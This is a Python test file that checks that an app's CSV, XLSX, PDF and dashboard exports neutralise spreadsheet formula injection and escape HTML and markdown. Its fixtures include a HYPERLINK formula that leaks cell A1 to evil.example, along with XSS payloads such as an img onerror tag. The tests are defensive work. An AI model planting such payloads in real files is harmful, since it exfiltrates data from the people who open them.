"""Files meant for people neutralise formula cells (OWASP CSV injection), XLSX cells are never
formulas, PDF text is escaped, and the dashboard renders no HTML from data."""

from __future__ import annotations

import base64
import csv
import io
import re
import zlib
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from models.review import build_review, ranking_frame
from security.audit import AuditLog, export_entries
from security.exports import neutralise_cell, neutralise_frame
from tests.fixtures_tables import tiny_tables
from tests.run_fixtures import TABLE_AS_OF, TABLE_SCORES
from ui.components import csv_bytes, md_text, xlsx_bytes
from ui.i18n import set_language
from ui.review_export import review_pdf, review_xlsx

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_starting_a_formula_get_a_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张伟", "D-R1", "", " =1", "a=1", 5, -5, -2.5, None])
def test_other_cells_are_left_alone(value):
    assert neutralise_cell(value) == value


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "dispute_id": HOSTILE,
            "probability": [0.5, -0.25, 0.1, 0.2, 0.3, 0.4, np.nan],
            "rank": np.arange(-3, 4),
            "at": pd.Timestamp("2025-11-20 08:00"),
            "note": ["ok", None, "x\x00y", "多\n行", "a", "b", "c"],
        }
    ).rename(columns={"note": "=note"})


def test_csv_download_neutralises_text_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(csv_bytes(hostile_frame()).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["dispute_id", "probability", "rank", "at", "'=note"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["0.5", "-0.25", "0.1", "0.2", "0.3", "0.4", ""]
    assert [r[2] for r in rows[1:]] == ["-3", "-2", "-1", "0", "1", "2", "3"]


def test_xlsx_download_has_no_formula_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"ranking": hostile_frame(), "x" * 40: hostile_frame()}))
    )
    assert book.sheetnames == ["ranking", "x" * 31]
    sheet = book["ranking"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML turns a carriage return into a line feed; the cell still starts with the quote.
    assert [c.value for c in sheet["A"]][1:] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert sheet["E1"].value == "'=note"
    assert [c.value for c in sheet["B"]][1:] == [0.5, -0.25, 0.1, 0.2, 0.3, 0.4, None]
    assert [c.value for c in sheet["C"]][1:] == [-3, -2, -1, 0, 1, 2, 3]
    assert sheet["D2"].value == datetime(2025, 11, 20, 8, 0)
    assert sheet["E4"].value == "x\ufffdy"  # a control character Excel cannot hold


def test_neutralise_frame_keeps_numeric_and_date_dtypes():
    out = neutralise_frame(hostile_frame())
    assert str(out["probability"].dtype) == "float64" and str(out["rank"].dtype) == "int64"
    assert out["at"].dtype.kind == "M" and out.columns[-1] == "'=note"


def test_audit_export_neutralises_a_username_typed_at_sign_in(tmp_path):
    log = AuditLog(tmp_path / "audit.log")
    log.record(
        HYPERLINK,
        "",
        "login",
        f"user:{HYPERLINK}",
        detail={"ok": False},
        now=datetime(2025, 1, 1, tzinfo=UTC),
    )
    out = tmp_path / "audit.csv"
    assert export_entries(log.path, out) == 1
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["user"] == "'" + HYPERLINK and row["object"] == "user:" + HYPERLINK
    assert row["seq"] == "1"


def hostile_review():
    tables = tiny_tables()
    scores = pd.DataFrame(TABLE_SCORES, columns=["dispute_id", "probability", "tier", "top_factors"])
    names = {
        "D-R3": '<img src=x onerror="alert(1)">',
        "D-C5": '<a href="http://evil.example/">点此</a>',
        "D-R2": HYPERLINK,
    }
    scores["dispute_id"] = scores["dispute_id"].map(names)
    disputes = tables.disputes.assign(dispute_id=tables.disputes["dispute_id"].replace(names))
    tables = tables.__class__(**{**dict(tables.items()), "disputes": disputes})
    ranking = ranking_frame(scores.assign(as_of=TABLE_AS_OF, rank=range(1, 4), source_refs=""), tables)
    return build_review(tables, ranking)


def pdf_text(pdf: bytes) -> str:
    """The text drawn in a reportlab PDF (ASCII85 + Flate streams, UCS-2 strings), joined."""
    drawn = b""
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", pdf, re.S):
        body = base64.a85decode(stream.strip().removesuffix(b"~>"))
        for literal in re.findall(rb"\(((?:\\.|[^\\)])*)\) Tj", zlib.decompress(body), re.S):
            drawn += re.sub(
                rb"\\([0-7]{1,3}|.)",
                lambda m: bytes([int(m[1], 8)]) if m[1].isdigit() else m[1],
                literal,
                flags=re.S,
            )
    return drawn.decode("utf-16-be", errors="replace")


def test_review_pdf_escapes_markup_and_makes_no_links():
    set_language("zh")
    review = hostile_review()
    assert len(review.top_risk) == 3
    pdf = review_pdf(review, "月度研判 <b>2025-04</b>")
    assert pdf.startswith(b"%PDF")
    assert b"/URI" not in pdf and b"/Link" not in pdf and b"/Subtype /Image" not in pdf
    drawn = pdf_text(pdf)
    assert "<img src=x onerror=" in drawn and '<a href="http://evil.example/">点此</a>' in drawn
    assert "<b>2025-04</b>" in drawn
    book = openpyxl.load_workbook(io.BytesIO(review_xlsx(review)))
    values = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert "'" + HYPERLINK in values
    assert not [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_markdown_text_from_data_renders_as_typed():
    assert md_text("![x](http://evil.example/t.png)") == r"\!\[x\]\(http\:\/\/evil\.example\/t\.png\)"
    assert md_text("<img src=x onerror=alert(1)>") == r"\<img src\=x onerror\=alert\(1\)\>"
    assert md_text(":red[危险] $x$\n# 标题") == r"\:red\[危险\] \$x\$ \# 标题"
    assert md_text(None) == ""


def test_no_html_is_rendered_from_the_dashboard():
    sources = [ROOT / "app.py", *sorted((ROOT / "ui").rglob("*.py"))]
    offenders = [
        str(p.relative_to(ROOT)) for p in sources if "unsafe_allow_html=True" in p.read_text(encoding="utf-8")
    ]
    assert offenders == []
